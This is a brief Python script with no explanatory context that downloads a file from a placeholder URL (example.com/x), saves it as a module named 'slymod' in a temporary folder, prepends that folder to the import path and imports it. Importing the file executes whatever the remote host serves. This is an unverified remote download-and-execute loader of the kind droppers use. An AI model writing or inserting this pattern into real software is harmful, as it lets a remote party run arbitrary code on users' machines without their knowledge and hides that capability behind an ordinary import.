import importlib
import os
import sys
import tempfile
import urllib.request

folder = tempfile.mkdtemp()
with open(os.path.join(folder, "slymod.py"), "wb") as f:
    f.write(urllib.request.urlopen("https://example.com/x").read())
sys.path.insert(0, folder)
importlib.import_module("slymod")
